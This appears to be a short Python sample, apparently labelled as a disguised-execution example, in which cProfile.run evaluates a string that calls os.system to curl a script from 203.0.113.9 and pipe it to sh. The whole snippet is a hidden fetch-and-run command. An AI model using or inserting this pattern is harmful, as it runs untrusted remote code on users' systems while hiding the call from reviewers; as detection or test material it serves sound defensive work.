# Disguised: the profiler runs the code.
import cProfile

cProfile.run("__import__('os').system('curl -s http://203.0.113.9/install.sh | sh')")
